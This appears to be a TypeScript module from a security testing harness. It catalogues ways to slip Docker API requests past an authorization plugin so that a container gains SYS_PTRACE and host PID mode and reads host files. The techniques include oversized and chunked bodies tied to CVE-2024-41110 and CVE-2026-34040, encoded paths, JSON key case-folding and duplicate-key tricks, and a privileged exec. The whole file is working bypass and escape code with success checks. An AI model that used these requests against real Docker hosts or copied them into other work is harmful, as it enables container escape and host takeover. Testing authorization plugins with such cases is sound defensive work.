import { type Host, IMAGE, whyNotAll } from "../host.ts";
import { reads, says, type Way } from "../escape.ts";
import { request, type RequestParts } from "../../raw_http.ts";
import { SOURCES } from "./sources.ts";

/** A create of a container that reads the host, sent in some way. */
const create = (
  host: Host,
  send: (body: Record<string, unknown>) => Uint8Array,
) =>
  host.create(
    {
      Cmd: ["cat", `/proc/${host.pid}/root${host.file}`],
      HostConfig: { CapAdd: ["SYS_PTRACE"], PidMode: "host" },
    },
    (body) => host.send(send(body)),
  );

const to = (target: string, parts: RequestParts = {}) =>
(
  body: Record<string, unknown>,
) => request("POST", target, { body, ...parts });

const CREATE = "/containers/create";

/** Ways to say what is refused so that a plugin does not hear it. */
export const CALLS: readonly Way[] = [
  {
    name: "a body of more than a mebibyte",
    sources: ["CVE-2026-34040"],
    attempt: (host) =>
      create(
        host,
        (body) => to(CREATE)({ ...body, Env: ["A=" + "a".repeat(1 << 20)] }),
      ),
    cannot: "a container can't be started with such variables",
    proof: reads,
  },
  {
    name: "a body of more than a mebibyte, in labels",
    sources: ["CVE-2026-34040"],
    attempt: (host) =>
      create(
        host,
        (body) => to(CREATE)({ ...body, Labels: { a: "a".repeat(1 << 20) } }),
      ),
    proof: reads,
  },
  {
    name: "a body of no length, in chunks",
    sources: ["CVE-2024-41110", "https://github.com/moby/moby/issues/41452"],
    attempt: (host) => create(host, to(CREATE, { chunk: 100 })),
    proof: reads,
  },
  {
    name: "a path in other letters",
    sources: ["moby daemon/server/server.go"],
    attempt: (host) => create(host, to("/v1.40/cont%61iners%2Fcre%61te")),
    proof: reads,
  },
  {
    name: "a target with a host in it",
    sources: ["https://www.rfc-editor.org/rfc/rfc9112#name-absolute-form"],
    attempt: (host) => create(host, to(`http://else/v1.40${CREATE}`)),
    proof: reads,
  },
  {
    name: "names that Go reads as HostConfig and CapAdd",
    sources: ["https://pkg.go.dev/encoding/json#Unmarshal"],
    attempt: (host) =>
      create(host, ({ HostConfig: _, ...body }) =>
        to(CREATE)({
          ...body,
          "hoſtCONFIG": { CAPADD: ["SYS_PTRACE"], pidmode: "host" },
        })),
    proof: reads,
  },
  {
    name: "a key that comes twice: the second does not take the first away",
    sources: ["https://pkg.go.dev/encoding/json#Unmarshal"],
    attempt: (host) =>
      create(host, (body) =>
        to(CREATE, {
          body: JSON.stringify(body).replace(/}$/, ',"HostConfig":{}}'),
          headers: [["Content-Type", "application/json"]],
        })({})),
    proof: reads,
  },
  {
    name: "CapAdd at the top of the body",
    sources: [SOURCES.authz, "moby runconfig/config_unix.go of 20.10"],
    engines: { to: 26 },
    attempt: (host) =>
      create(
        host,
        ({ HostConfig, ...body }) =>
          to(CREATE)({ ...body, ...HostConfig as Record<string, unknown> }),
      ),
    proof: reads,
  },
  {
    name: "an exec that is privileged, after one that is not",
    sources: [SOURCES.authz],
    cannot: whyNotAll,
    attempt: async (host) => {
      await host.docker(
        ...["run", "--detach", "--network=none", "--name=pipelined", IMAGE],
      );
      const exec = (Privileged: boolean) =>
        host.api("POST", "/containers/pipelined/exec", {
          AttachStdout: true,
          Privileged,
          Cmd: [
            ...["sh", "-c"],
            'echo bit $((0x$(sed -n "s/CapEff:.//p" /proc/self/status) >> 21 & 1))',
          ],
        });
      await exec(false);
      const second = await exec(true);
      if (second.status !== 201) return;
      const { Id } = second.json<{ Id: string }>();
      const answer = await host.api("POST", `/exec/${Id}/start`, {});
      if (answer.body.includes("bit 1")) host.note("bit 1");
    },
    proof: says("bit 1"),
  },
];
